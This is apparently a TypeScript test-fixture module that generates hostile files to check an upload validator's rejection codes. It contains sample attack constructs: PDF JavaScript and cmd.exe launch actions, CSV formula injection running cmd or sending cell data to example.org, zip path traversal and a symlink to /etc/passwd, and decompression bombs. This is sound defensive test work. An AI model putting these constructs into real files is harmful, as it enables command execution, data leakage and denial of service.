import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { craftZip, zipOf } from '../../src/platform/documents/testing/craft-zip.ts';
import { jpegOf, pdfOf, pdfStream, pngOf } from '../../src/platform/extraction/testing/samples.ts';
import type { Hostile } from './files.ts';
import { noise, office } from './office-files.ts';

/* PDF, OFD, text, pictures and archives that attack. */

const bytes = (text: string) => Buffer.from(text, 'latin1');
const zeros = (mebibytes: number) => Buffer.alloc(mebibytes * 1_048_576);

const pages = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>',
  pdfStream('BT ET'),
];
const pdf = (catalogue = '', ...more: readonly string[]) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, ...pages, ...more]);
const packedStream = (data: Buffer, dictionary: string) => {
  const packed = deflateSync(data, { level: 9 });
  return `<< /Length ${packed.length} ${dictionary}>>\nstream\n${packed.toString('latin1')}\nendstream`;
};

/** What pdf-lib writes puts its objects into compressed streams, where no name is seen from outside. */
async function packedPdf(change: (document: PDFDocument) => unknown): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([100, 100]);
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams: true, addDefaultPage: false }));
}

/** A locked file by the oldest rule; what it holds does not matter. */
const lockedPdf = () => {
  const id = createHash('md5').update('x').digest('hex');
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...pages,
      `<< /Filter /Standard /V 1 /R 2 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> /P -4 >>`,
    ],
    `/Encrypt 5 0 R /ID [<${id}> <${id}>]`,
  );
};

const pdfs: readonly Omit<Hostile, 'name' | 'table'>[] = [
  {
    what: 'a script',
    code: 'file-active-content',
    make: () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  },
  {
    what: 'a script with its name escaped',
    code: 'file-active-content',
    make: () => pdf('/OpenAction << /S /Java#53cript /J#53 (x) >>'),
  },
  {
    what: 'a script inside a compressed object stream',
    code: 'file-active-content',
    make: () => packedPdf((document) => document.addJavaScript('x', 'app.alert(1)')),
  },
  {
    what: 'a file inside a compressed object stream',
    code: 'file-active-content',
    make: () => packedPdf((document) => document.attach(Buffer.from('MZ'), 'a.exe')),
  },
  {
    what: 'an object stream packed as no program does',
    code: 'file-active-content',
    make: () => pdf('', pdfStream('3C3C2F533E3E>', '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode ')),
  },
  {
    what: 'a program',
    code: 'file-active-content',
    make: () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  },
  { what: 'a file', code: 'file-active-content', make: () => pdf('/Names << /EmbeddedFiles 9 0 R >>') },
  {
    what: 'media',
    code: 'file-active-content',
    make: () => pdf('', '<< /Type /Annot /Subtype /RichMedia >>'),
  },
  {
    what: 'a form of XML',
    code: 'file-active-content',
    make: () => pdf('/AcroForm << /XFA 5 0 R >>', pdfStream('<x/>')),
  },
  {
    what: 'a form that sends itself',
    code: 'file-active-content',
    make: () => pdf('', '<< /S /SubmitForm /F (http://example.org) >>'),
  },
  { what: 'locked', code: 'file-encrypted', make: lockedPdf },
  { what: 'cut off', code: 'file-truncated', make: () => pdf().subarray(0, -30) },
  { what: 'a picture under this name', code: 'file-mislabelled', make: () => pngOf() },
  {
    what: 'a page of a gigabyte',
    code: 'file-bomb',
    make: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...pages.slice(0, 2),
        packedStream(zeros(512), '/Filter /FlateDecode '),
      ]),
  },
  {
    what: 'an object stream of a gigabyte',
    code: 'file-bomb',
    make: () =>
      pdf(
        '',
        packedStream(Buffer.alloc(256 * 1_048_576, 32), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode '),
      ),
  },
  {
    what: 'twenty large streams',
    code: 'file-bomb',
    make: () =>
      pdf('', ...Array.from({ length: 20 }, () => packedStream(zeros(90), '/Filter /FlateDecode '))),
  },
  {
    what: 'no pages at all',
    code: 'file-damaged',
    make: () => bytes('%PDF-1.4\n1 0 obj<<>>endobj\nstartxref\n9\n%%EOF\n'),
  },
  {
    what: 'pages that are their own parents',
    code: 'file-damaged',
    make: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 5 >>']),
  },
  {
    what: 'brackets without end',
    code: 'file-damaged',
    make: () => pdfOf([`<< /Type /Catalog /Pages ${'['.repeat(200_000)} >>`]),
  },
];

const ofdParts = { 'OFD.xml': '<ofd:OFD xmlns:ofd="o"/>', 'Doc_0/Document.xml': '<x/>' };
const ofds: readonly Omit<Hostile, 'name' | 'table'>[] = [
  { what: 'locked', code: 'file-encrypted', make: () => zipOf({ ...ofdParts, 'Encryptions.xml': '<x/>' }) },
  {
    what: 'a file',
    code: 'file-active-content',
    make: () => zipOf({ ...ofdParts, 'Doc_0/Attachs/Attachments.xml': '<x/>' }),
  },
  {
    what: 'a document type',
    code: 'file-xml-entities',
    make: () => zipOf({ ...ofdParts, 'Doc_0/Pages/Page_0/Content.xml': '<!DOCTYPE x><x/>' }),
  },
  { what: 'a bomb', code: 'file-bomb', make: () => zipOf({ ...ofdParts, 'Doc_0/Res/a.jb2': zeros(200) }) },
  { what: 'a plain archive under this name', code: 'file-mislabelled', make: () => zipOf({ 'a.txt': 'x' }) },
  { what: 'cut off', code: 'file-truncated', make: () => zipOf(ofdParts).subarray(0, -30) },
];

const texts: readonly Hostile[] = [
  {
    what: 'csv: a program as formula',
    name: 'a.csv',
    code: 'file-active-content',
    table: '',
    make: () => Buffer.from('姓名,备注\n某甲,"=cmd|\' /C calc\'!A0"\n'),
  },
  {
    what: 'csv: a formula that fetches',
    name: 'a.csv',
    code: 'file-remote-content',
    table: '',
    make: () => Buffer.from('姓名\t=WEBSERVICE("http://example.org/"&A1)\n'),
  },
  {
    what: 'csv: a full-width sign before a program',
    name: 'a.csv',
    code: 'file-active-content',
    table: '',
    make: () => Buffer.from("一,＝cmd|'/C x'!A1\n"),
  },
  {
    what: 'csv: a program under this name',
    name: 'a.csv',
    code: 'file-mislabelled',
    table: 'table-mislabelled',
    make: () => bytes(`MZ\x90\x00${'\xcc'.repeat(4_000)}`),
  },
  {
    what: 'csv: an archive under this name',
    name: 'a.csv',
    code: 'file-mislabelled',
    table: 'table-mislabelled',
    make: () => office('xlsx'),
  },
  {
    what: 'txt: a PDF under this name',
    name: 'a.txt',
    code: 'file-mislabelled',
    table: 'table-mislabelled',
    make: () => pdf(),
  },
  {
    what: 'txt: zero bytes',
    name: 'a.txt',
    code: 'file-mislabelled',
    table: 'table-bad-encoding',
    make: () => Buffer.from('a\0b'),
  },
  {
    what: 'txt: empty',
    name: 'a.txt',
    code: 'upload-empty',
    table: 'upload-empty',
    make: () => Buffer.alloc(0),
  },
  {
    what: 'txt: too large',
    name: 'a.txt',
    code: 'file-too-large',
    table: '',
    make: () => Buffer.from(noise(21 * 1_048_576)),
  },
  {
    what: 'a program',
    name: 'a.exe',
    code: 'file-type-not-allowed',
    table: 'table-wrong-type',
    make: () => bytes('MZ\x90\x00'),
  },
  {
    what: 'a page',
    name: 'a.html',
    code: 'file-type-not-allowed',
    table: 'table-wrong-type',
    make: () => bytes('<script>1</script>'),
  },
  {
    what: 'a drawing with a script',
    name: 'a.svg',
    code: 'file-type-not-allowed',
    table: 'table-wrong-type',
    make: () => bytes('<svg onload="x"/>'),
  },
  {
    what: 'two endings',
    name: 'a.pdf.js',
    code: 'file-type-not-allowed',
    table: 'table-wrong-type',
    make: () => pdf(),
  },
  {
    what: 'a name that climbs',
    name: '../../a.docx',
    code: 'file-unsafe-name',
    table: '',
    make: () => office('docx'),
  },
  {
    what: 'a name that turns round',
    name: 'a\u202exslx.docx',
    code: 'file-unsafe-name',
    table: '',
    make: () => office('docx'),
  },
];

const hugePng = () => {
  const data = pngOf();
  data.writeUInt32BE(100_000, 16);
  data.writeUInt32BE(100_000, 20);
  return data;
};
const pictures: readonly Hostile[] = [
  { what: 'png: ten thousand million points', name: 'a.png', code: 'file-bomb', make: hugePng },
  { what: 'png: cut off', name: 'a.png', code: 'file-truncated', make: () => pngOf().subarray(0, -12) },
  {
    what: 'png: an archive behind it',
    name: 'a.png',
    code: 'file-damaged',
    make: () => Buffer.concat([pngOf(), zipOf({ 'a.txt': 'x' })]),
  },
  {
    what: 'png: a program under this name',
    name: 'a.png',
    code: 'file-mislabelled',
    make: () => bytes('MZ\x90\x00'),
  },
  {
    what: 'jpg: four thousand million points',
    name: 'a.jpg',
    code: 'file-bomb',
    make: () => Buffer.from('ffd8ffc0000b08ffffffff01011100ffda0008010100003f0012ffd9', 'hex'),
  },
  { what: 'jpg: cut off', name: 'a.jpg', code: 'file-truncated', make: () => jpegOf().subarray(0, -2) },
].map((one) => ({ ...one, table: 'table-wrong-type' }));

const archive = (parts: Readonly<Record<string, string | Uint8Array>>) => () => zipOf(parts);
const archives: readonly Omit<Hostile, 'name' | 'table'>[] = [
  { what: 'an archive', code: 'file-nested-archive', make: archive({ 'b.zip': zipOf({ 'a.txt': 'x' }) }) },
  { what: 'another kind of archive', code: 'file-nested-archive', make: archive({ 'b.7z': '7z\xbc\xaf' }) },
  { what: 'a program', code: 'file-type-not-allowed', make: archive({ 'b.exe': 'MZ' }) },
  {
    what: 'a file with macros',
    code: 'file-has-macros',
    make: () => zipOf({ 'b.docx': office('docx', { 'word/vbaProject.bin': 'x' }) }),
  },
  {
    what: 'a PDF with a script',
    code: 'file-active-content',
    make: () => zipOf({ 'b.pdf': pdf('/OpenAction << /S /JavaScript /JS (x) >>') }),
  },
  { what: 'old Word', code: 'file-old-format', make: archive({ 'b.doc': 'x' }) },
  {
    what: 'a table that runs a program',
    code: 'file-active-content',
    make: archive({ 'b.csv': "=cmd|'/C x'!A0" }),
  },
  { what: 'something under another name', code: 'file-mislabelled', make: archive({ 'b.png': '%PDF-1.4' }) },
  { what: 'a bomb', code: 'file-bomb', make: () => zipOf({ 'b.txt': Buffer.alloc(250 * 1_048_576, 97) }) },
  {
    what: 'a bomb inside a Word file',
    code: 'file-bomb',
    make: () => zipOf({ 'b.docx': office('docx', { 'word/x.xml': Buffer.alloc(200 * 1_048_576, 32) }) }),
  },
  { what: 'a name that climbs', code: 'file-unsafe-name', make: archive({ '../../etc/cron.txt': 'x' }) },
  {
    what: 'a name that climbs by backslashes',
    code: 'file-unsafe-name',
    make: archive({ '..\\..\\x.txt': 'x' }),
  },
  { what: 'a name from the root', code: 'file-unsafe-name', make: archive({ '/etc/x.txt': 'x' }) },
  { what: 'a name on a drive', code: 'file-unsafe-name', make: archive({ 'C:/x.txt': 'x' }) },
  {
    what: 'a symbolic link',
    code: 'file-unsafe-name',
    make: () => craftZip([{ name: 'x.txt', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
  },
  {
    what: 'a name twice',
    code: 'file-damaged',
    make: () =>
      craftZip([
        { name: 'a.txt', data: bytes('1') },
        { name: 'a.txt', data: bytes('2') },
      ]),
  },
  {
    what: 'parts over one another',
    code: 'file-bomb',
    make: () =>
      craftZip([
        { name: '0.txt', data: bytes(noise(9_000)) },
        ...Array.from({ length: 60 }, (_x, at) => ({
          name: `${at + 1}.txt`,
          data: bytes(noise(9_000)),
          offset: 0,
        })),
      ]),
  },
  {
    what: 'four hundred files',
    code: 'file-bomb',
    make: () => zipOf(Object.fromEntries(Array.from({ length: 400 }, (_x, at) => [`${at}.txt`, 'x']))),
  },
  {
    what: 'a locked file',
    code: 'file-encrypted',
    make: () => craftZip([{ name: 'a.txt', data: bytes('x'), flags: 1 }]),
  },
  { what: 'a Word file under this name', code: 'file-mislabelled', make: () => office('docx') },
  { what: 'cut off', code: 'file-truncated', make: () => zipOf({ 'a.txt': noise(900) }).subarray(0, 200) },
];

const named = (
  ending: string,
  table: string,
  list: readonly Omit<Hostile, 'name' | 'table'>[],
): readonly Hostile[] =>
  list.map((one) => ({ ...one, what: `${ending}: ${one.what}`, name: `公示.${ending}`, table }));

export const otherFiles: readonly Hostile[] = [
  ...named('pdf', 'table-wrong-type', pdfs),
  ...named('ofd', 'table-wrong-type', ofds),
  ...texts,
  ...pictures,
  ...named('zip', 'table-wrong-type', archives),
];
